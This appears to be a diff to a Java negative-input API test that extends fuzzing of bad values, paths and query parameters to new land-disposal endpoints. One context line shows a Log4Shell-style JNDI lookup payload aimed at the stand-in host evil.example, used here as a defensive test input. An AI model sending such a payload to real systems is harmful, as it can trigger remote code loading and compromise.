@@ -53,7 +53,8 @@ class BadInputTest {
             "${jndi:ldap://evil.example/a}");
 
     static final String[] TABLES = {"partner", "asset", "asset_status_change", "project", "project_partner",
-            "project_asset", "project_milestone", "project_stage_change", "brownfield_site"};
+            "project_asset", "project_milestone", "project_stage_change", "brownfield_site", "disposal",
+            "disposal_interest", "audit_event"};
 
     static final ObjectMapper JSON = new ObjectMapper();
 
@@ -122,7 +123,70 @@ class BadInputTest {
                     List.of("boundary.type")),
             new Op("setBrownfieldSiteBoundary", "maidstone.editor", "PUT", t -> brownfieldBoundary(t),
                     t -> new HashMap<>(BoundaryFixtures.hectare()),
-                    List.of("type")));
+                    List.of("type")),
+            // Disposals (#17): the declaration's asset is the target's, so the body looks it up by the token.
+            new Op("declareDisposal", "maidstone.editor", "POST", t -> surplusAsset(t),
+                    t -> disposalDeclaration(BadInputTest.SURPLUS_ASSETS.getOrDefault(t, "7b0c2b7e-5d1a-4c8e-9a40-2b8f6f1d7c11")),
+                    List.of("offerTypes[0]")),
+            new Op("registerDisposalInterest", "dover.editor", "POST", t -> disposal(t, "/interests", false),
+                    t -> disposalInterest(),
+                    List.of("intendedUse")),
+            new Op("agreeDisposalTransfer", "maidstone.editor", "POST", t -> disposal(t, "/transfer-agreement", true),
+                    t -> new HashMap<>(Map.of("interestId", BadInputTest.DOVER_INTERESTS.getOrDefault(t,
+                            "7b0c2b7e-5d1a-4c8e-9a40-2b8f6f1d7c11"))),
+                    List.of()),
+            new Op("withdrawDisposal", "maidstone.editor", "POST", t -> disposal(t, "/withdrawal", false),
+                    t -> new HashMap<>(Map.of("reason", "Retained " + t)),
+                    List.of()),
+            new Op("completeDisposal", "maidstone.editor", "POST", t -> agreedDisposal(t),
+                    t -> new HashMap<>(Map.of("completedOn", LocalDate.now(org.estatehub.common.time.PartnershipCalendar.ZONE)
+                            .toString(), "capitalReceipt", Map.of("amount", "125000.50", "currency", "GBP"),
+                            "hectaresReleased", 1.5, "housingCapacity", 12)),
+                    List.of("capitalReceipt.currency")));
+
+    /** The asset each declaration case's target registered, by the case's token. */
+    static final Map<String, String> SURPLUS_ASSETS = new java.util.concurrent.ConcurrentHashMap<>();
+
+    /** Dover's interest in each agreement case's disposal, by the case's token. */
+    static final Map<String, String> DOVER_INTERESTS = new java.util.concurrent.ConcurrentHashMap<>();
+
+    static Target surplusAsset(String t) {
+        String id = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input surplus " + t, 51.27, 0.52));
+        SURPLUS_ASSETS.put(t, id);
+        return new Target("/disposals", null, "/assets/" + id);
+    }
+
+    static Map<String, Object> disposalDeclaration(String assetId) {
+        return new HashMap<>(Map.of("assetId", assetId, "reason", "Surplus", "availableFrom", "2027-04-01",
+                "offerTypes", List.of("FREEHOLD_SALE", "LICENCE"), "guidePrice", Map.of("amount", "850000.00",
+                        "currency", "GBP"), "siteAreaHectares", 1.25, "knownConstraints", "Flood zone 2",
+                "contact", Map.of("name", "Estates", "email", "estates@maidstone.gov.uk", "phone", "01622 602000")));
+    }
+
+    static Map<String, Object> disposalInterest() {
+        return new HashMap<>(Map.of("intendedUse", "HOUSING", "proposal", "Key-worker homes", "timing", "2028",
+                "fundingSource", "BLRF", "contact", Map.of("name", "Dover estates", "email", "estates@dover.gov.uk")));
+    }
+
+    /** A fresh OFFERED disposal of Maidstone's, with Dover's interest in it when `withInterest`. */
+    static Target disposal(String t, String suffix, boolean withInterest) {
+        String asset = AssetFixtures.createId("maidstone.editor", AssetFixtures.asset("Bad input disposal " + t, 51.27, 0.52));
+        String id = Api.as("maidstone.editor").body(disposalDeclaration(asset)).post("/disposals").then().statusCode(201)
+                .extract().path("id");
+        if (withInterest) {
+            DOVER_INTERESTS.put(t, Api.as("dover.editor").body(disposalInterest()).post("/disposals/" + id + "/interests")
+                    .then().statusCode(201).extract().path("id"));
+        }
+        return new Target("/disposals/" + id + suffix, suffix.equals("/interests") ? null : "\"0\"", "/disposals/" + id);
+    }
+
+    /** A disposal with a transfer to Dover agreed, ready to complete. */
+    static Target agreedDisposal(String t) {
+        Target offered = disposal(t, "", true);
+        Api.as("maidstone.editor").header("If-Match", "\"0\"").body(Map.of("interestId", DOVER_INTERESTS.get(t)))
+                .post(offered.path() + "/transfer-agreement").then().statusCode(200);
+        return new Target(offered.path() + "/completion", "\"1\"", offered.path());
+    }
 
     static Stream<Case> cases() {
         List<Case> cases = new ArrayList<>();
@@ -370,6 +434,9 @@ class BadInputTest {
                 "deliverable", "q", "bbox", "limit", "offset"));
         params.put("/awards/export", List.of("programme", "roundId", "format"));
         params.put("/brownfield-sites/export", List.of("partner", "localAuthority", "planningStatus", "ownershipStatus"));
+        params.put("/disposals", List.of("status", "ownerPartnerId", "localAuthority", "windowOpen", "limit", "offset"));
+        params.put("/disposals/export", List.of("status", "ownerPartnerId", "localAuthority", "windowOpen"));
+        params.put("/disposals/00000000-0000-0000-0000-000000000000/interests", List.of("limit", "offset"));
         params.forEach((path, names) -> {
             for (String name : names) {
                 for (String value : INJECTIONS) {
@@ -435,6 +502,14 @@ class BadInputTest {
             paths.add("PUT /brownfield-sites/" + v + "/links");
             paths.add("PUT /brownfield-sites/" + v + "/boundary");
             paths.add("DELETE /brownfield-sites/" + v + "/boundary");
+            paths.add("GET /disposals/" + v);
+            paths.add("GET /disposals/" + v + "/history");
+            paths.add("GET /disposals/" + v + "/interests");
+            paths.add("POST /disposals/" + v + "/interests");
+            paths.add("POST /disposals/" + v + "/withdrawal");
+            paths.add("POST /disposals/" + v + "/open-market-release");
+            paths.add("GET /disposals/00000000-0000-0000-0000-000000000000/interests/" + v);
+            paths.add("POST /disposals/00000000-0000-0000-0000-000000000000/interests/" + v + "/withdrawal");
             paths.add("GET /tiles/assets/" + v + "/0/0.mvt");
             paths.add("GET /tiles/assets/0/" + v + "/0.mvt");
             paths.add("GET /tiles/assets/0/0/" + v + ".mvt");
